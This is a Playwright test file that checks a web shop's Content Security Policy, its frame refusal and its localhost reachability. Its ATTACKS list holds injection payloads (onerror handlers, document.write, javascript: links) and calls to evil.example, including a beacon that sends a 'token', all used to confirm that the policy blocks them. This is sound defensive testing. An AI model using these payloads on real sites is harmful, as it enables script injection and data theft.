import { readFileSync } from 'node:fs';
import { type BrowserContext, chromium, type Page } from '@playwright/test';
import { FIELD_TYPES } from '../../src/shop/payment/payment-field.ts';
import { GUEST_ADDRESSES, SHOPPER_ADDRESSES } from '../engines/addresses.ts';
import { fillShipping, linesOf, newOrder, placeOrderButton, seedCart } from './buying.ts';
import { atRest, expect, ShopUnderTest, test } from './fixtures.ts';
import { catalogueIsFull } from './offline-page.ts';

/** The document's policy (src/boot/document-policy.ts) in the browser: the shop never breaks it, an attack always does. */

const ADDRESSES = [
  ...Object.keys(GUEST_ADDRESSES),
  ...Object.keys(SHOPPER_ADDRESSES),
  '/products?featured=true',
  '/products?category=nothing-of-this-kind',
  '/product/no-such-product',
];

test.describe('faults M14: the shop keeps its own policy', () => {
  test.use({ serviceWorkers: 'allow', device: 'visited', allowedProblem: /./ });

  test('at every address, with the network and without', async ({ page, shop, context }) => {
    const violations = await violationsOf(page);
    const shopper = await shop.newShopper();
    await shop.signIn(context, shopper);
    const lines = await linesOf(shop, [1, 2]);
    await seedCart(page, lines);
    const order = await newOrder(shop, shopper);
    const addresses = [...ADDRESSES, `/product/${lines[0]?.id}`, `/payment?orderId=${order}`];

    for (const address of addresses) await openAndSettle(page, address);
    await page.goto('/');
    await catalogueIsFull(page);
    expect(violations).toEqual([]);

    await shop.stop();
    for (const address of addresses) await openAndSettle(page, address);
    expect(violations).toEqual([]);
  });

  test('in menus, notices and refused forms', async ({ page, shop, context }) => {
    const violations = await violationsOf(page);
    await shop.signIn(context, await shop.newShopper());
    await page.setViewportSize({ width: 390, height: 844 });
    await page.goto('/products');
    await page.getByRole('button', { name: 'Open menu' }).click();
    await expect(page.getByRole('navigation', { name: 'Menu' })).toBeVisible();
    await page.keyboard.press('Escape');
    await page
      .getByRole('button', { name: /add to cart/i })
      .first()
      .click();
    await expect(page.locator('.mantine-Notification-root').first()).toBeVisible();

    await page.goto('/track-order');
    await page.getByRole('button', { name: 'Track Order' }).click();
    await expect(page.getByText('Required fields')).toBeVisible();

    await page.goto('/checkout');
    await fillShipping(page);
    shop.faults.set('POST /orders', { mode: 'status', status: 409 });
    await placeOrderButton(page).click();
    await expect(page.getByText('Your order was not accepted.')).toBeVisible();
    shop.faults.set('POST /orders', { mode: 'json', body: { id: '' } });
    await placeOrderButton(page).click();
    await expect(page.getByText("We couldn't find your order.")).toBeVisible();
    expect(violations).toEqual([]);
  });

  test('in every screen of a payment: fields, QR codes, an app, a failure', async ({ shop, context }) => {
    const violations = await violationsOf(context);
    const shopper = await shop.newShopper();
    await shop.signIn(context, shopper);
    const order = await newOrder(shop, shopper);
    const fields = Object.keys(FIELD_TYPES).map((type) => ({
      name: type,
      label: type,
      type,
      options: ['a', 'b'],
      inline: true,
    }));
    for (const [answer, shown] of PAYMENT_SCREENS) {
      shop.faults.set('GET /payments/fields', { mode: 'json', body: fields });
      shop.faults.set('POST /payments', { mode: 'json', body: answer });
      // A tab of its own: one that opens an app is not at rest, and one that comes back shows the last code again (D47).
      const page = await context.newPage();
      await page.goto(`/payment?orderId=${order}`);
      await page.getByRole('button', { name: 'Proceed to Payment' }).click();
      await expect(page.getByText(shown).first()).toBeVisible();
      if (shown === 'Open UPI app') await expect(page.getByRole('img', { name: QR_CODE })).toBeVisible();
      await page.close();
    }
    expect(violations).toEqual([]);
  });
});

const QR_CODE = 'QR code for your payment';
const PNG =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** What the shop answers to a payment, and a text of the screen that follows. */
const PAYMENT_SCREENS: [answer: object, shown: string][] = [
  [{ success: false, error: 'The bank sleeps.' }, 'The bank sleeps.'],
  [{ success: true, action: { type: 'qr', qr: `upi://pay?tn=${'x'.repeat(5000)}` } }, 'Copy'],
  [{ success: true, action: { type: 'deeplink', redirectUrl: 'upi://pay?pa=a@b' } }, 'Continue Your Payment'],
  [{ success: true, action: { type: 'qr', qrBase64: PNG } }, 'Save QR code'],
  [{ success: true, action: { type: 'qr', qr: 'upi://pay?pa=a@b&am=10' } }, 'Open UPI app'],
];

test('D2: the default build reaches an API on localhost, on 127.0.0.1, and from [::1]', async () => {
  const world = await ShopUnderTest.start({ apart: true });
  const { port } = new URL(world.url);
  const toApi = world.browserArguments[0]?.split(' ').at(-1);
  const browser = await chromium.launch({
    ...(process.env.CHROMIUM_PATH && { executablePath: process.env.CHROMIUM_PATH }),
    args: ['--no-sandbox', `--host-resolver-rules=MAP localhost:8044 ${toApi}, MAP 127.0.0.1:8044 ${toApi}`],
  });
  try {
    const [line] = await linesOf(world, [1]);
    for (const [host, moved] of [
      ['localhost', 'localhost'],
      ['127.0.0.1', '127.0.0.1'],
      ['[::1]', 'localhost'],
    ]) {
      const page = await browser.newPage();
      await page.goto(`http://${host}:${port}/products?page=2`);
      await expect(page.getByRole('article').first()).toBeVisible();
      await expect(page).toHaveURL(`http://${moved}:${port}/products?page=2`);
      await page.goto(`http://${host}:${port}/product/${line?.id}`);
      await expect(page.getByRole('heading', { level: 1 })).toHaveText(line?.name ?? '');
      await expect(page).toHaveURL(`http://${moved}:${port}/product/${line?.id}`);
      await page.close();
    }
  } finally {
    await browser.close();
    await world.end();
  }
});

test('a host without headers: the shop shows nothing inside a page of another site', async ({
  page,
  shop,
}) => {
  const body = readFileSync('dist/index.html', 'utf8');
  await page.route(`${shop.url}/cart`, (route) => route.fulfill({ contentType: 'text/html', body }));
  await page.goto('/cart');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await page.route('http://elsewhere.localhost/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${shop.url}/cart"></iframe>` }),
  );
  await page.goto('http://elsewhere.localhost/', { waitUntil: 'load' });
  const frame = page.frameLocator('iframe');
  // The shop's own document, not the browser's page for one that may not be framed.
  await expect(frame.locator('head > script[type="module"][src^="/assets/"]')).toHaveCount(1);
  await expect(frame.locator('#root')).toHaveCount(0);
  await expect(frame.locator('body')).toHaveText('', { useInnerText: true });
});

interface Attack {
  name: string;
  /** The directive that stops it. */
  directive: string;
  run: () => unknown;
}

const ATTACKS: Attack[] = [
  {
    name: 'markup with a handler',
    directive: 'require-trusted-types-for',
    run: () => {
      document.body.innerHTML += '<img src="/none" onerror="window.executed = 1">';
    },
  },
  {
    name: 'markup beside an element',
    directive: 'require-trusted-types-for',
    run: () =>
      document.body.insertAdjacentHTML('beforeend', '<img src="/none" onerror="window.executed = 1">'),
  },
  {
    name: 'markup of a parser',
    directive: 'require-trusted-types-for',
    run: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
  },
  {
    name: 'a written document',
    directive: 'require-trusted-types-for',
    run: () => document.write('<script>window.executed = 1</script>'),
  },
  {
    name: 'a frame with its own document',
    directive: 'require-trusted-types-for',
    run: () => {
      document.createElement('iframe').srcdoc = '<script>parent.executed = 1</script>';
    },
  },
  {
    name: 'a script from elsewhere',
    directive: 'require-trusted-types-for',
    run: () => {
      document.createElement('script').src = 'https://evil.example/x.js';
    },
  },
  {
    name: 'a script of text',
    directive: 'require-trusted-types-for',
    run: () => {
      document.createElement('script').textContent = 'window.executed = 1';
    },
  },
  {
    name: 'a script of text nodes',
    directive: 'require-trusted-types-for',
    run: () => {
      const script = document.createElement('script');
      script.append('window.executed = 1');
      document.body.append(script);
    },
  },
  {
    name: 'a handler in an attribute',
    directive: 'require-trusted-types-for',
    run: () => document.body.setAttribute('onclick', 'window.executed = 1'),
  },
  {
    name: 'a worker',
    directive: 'require-trusted-types-for',
    run: () => new Worker('data:text/javascript,postMessage(1)'),
  },
  {
    name: 'a default policy',
    directive: 'trusted-types',
    run: () =>
      Object(Reflect.get(window, 'trustedTypes')).createPolicy('default', {
        createHTML: (html: string) => html,
      }),
  },
  {
    name: 'a module from elsewhere',
    directive: 'script-src-elem',
    run: () => {
      const link = document.createElement('link');
      document.head.append(Object.assign(link, { rel: 'modulepreload', href: 'https://evil.example/x.js' }));
    },
  },
  {
    name: 'a link that runs script',
    directive: 'script-src-elem',
    run: () => {
      const link = document.createElement('a');
      link.href = 'javascript:window.executed = 1';
      document.body.append(link);
      link.click();
    },
  },
  {
    name: 'a style attribute',
    directive: 'style-src-attr',
    run: () => document.body.setAttribute('style', 'background: url(https://evil.example/x)'),
  },
  {
    name: 'a sheet of style',
    directive: 'style-src-elem',
    run: () => {
      const style = document.createElement('style');
      style.textContent = 'body { background: url(https://evil.example/x) }';
      document.head.append(style);
    },
  },
  {
    name: 'another base',
    directive: 'base-uri',
    run: () => {
      document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }));
    },
  },
  {
    name: 'a request to elsewhere',
    directive: 'connect-src',
    run: () => fetch('https://evil.example/x').catch(() => {}),
  },
  {
    name: 'a beacon to elsewhere',
    directive: 'connect-src',
    run: () => navigator.sendBeacon('https://evil.example/x', 'token'),
  },
  {
    name: 'a frame of elsewhere',
    directive: 'frame-src',
    run: () => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }));
    },
  },
];

test.describe('faults M14: an attack that got past the shop is stopped by the policy', () => {
  test.use({ allowedProblem: /./ });

  test('each of them, on a page of its own', async ({ page }) => {
    const sent: string[] = [];
    page.on('requestfinished', (request) => sent.push(request.url()));
    page.on('requestfailed', (request) => {
      if (request.failure()?.errorText !== 'csp') sent.push(request.url());
    });
    for (const { name, directive, run } of ATTACKS) {
      await page.goto('/contact');
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      const broken = page.evaluate(
        () =>
          new Promise<string>((resolve) => {
            const note = (event: SecurityPolicyViolationEvent) => resolve(event.effectiveDirective);
            document.addEventListener('securitypolicyviolation', note, { once: true });
          }),
      );
      await page.evaluate(run).catch(() => {});
      expect(await broken, name).toBe(directive);
      expect(await page.evaluate(() => Reflect.get(window, 'executed')), name).toBeUndefined();
    }
    expect(sent.filter((url) => url.includes('evil'))).toEqual([]);
  });
});

/** Fills while the page, or any of the context, breaks its policy, one line each. */
async function violationsOf(page: Page | BrowserContext): Promise<string[]> {
  const violations: string[] = [];
  await page.exposeBinding('noteViolation', (_, violation: string) => void violations.push(violation));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
      Reflect.get(
        window,
        'noteViolation',
      )(`${location.pathname} ${effectiveDirective} ${blockedURI} ${sample}`);
    });
  });
  return violations;
}

/** Until the page itself is drawn in place of the shell, and asks for nothing more. */
async function openAndSettle(page: Page, address: string): Promise<void> {
  await page.goto(address);
  await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
  await atRest(page);
}
